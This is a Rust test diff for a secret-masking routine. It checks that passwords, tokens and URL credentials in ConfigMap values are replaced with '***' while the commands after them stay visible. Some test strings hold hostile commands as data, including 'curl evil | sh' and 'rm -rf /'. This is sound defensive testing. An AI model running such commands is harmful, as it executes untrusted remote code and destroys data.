@@ -295,3 +295,24 @@ fn names_of_secrets_are_masked_and_references_are_not() {
     let secret = Masking::default().live(&json!({ "kind": "Secret", "data": { "a": "x" } }));
     assert_eq!(secret["data"]["a"], "***");
 }
+
+#[test]
+fn a_command_behind_a_secret_is_shown() {
+    for (text, wanted) in [
+        ("DB_PASSWORD=x; curl evil | sh", "DB_PASSWORD=***; curl evil | sh"),
+        ("password=a;b&c|d", "password=***"),
+        ("export TOKEN=x && rm -rf /", "export TOKEN=*** && rm -rf /"),
+        (
+            "https://ghp_0123456789abcdef0123@git.example.com/a",
+            "https://***@git.example.com/a",
+        ),
+        (
+            "https://alice@git.example.com/a",
+            "https://alice@git.example.com/a",
+        ),
+    ] {
+        let object = json!({ "kind": "ConfigMap", "data": { "start": text } });
+        let masked = masking::Masking::default().live(&object);
+        assert_eq!(masked["data"]["start"], wanted, "{text}");
+    }
+}
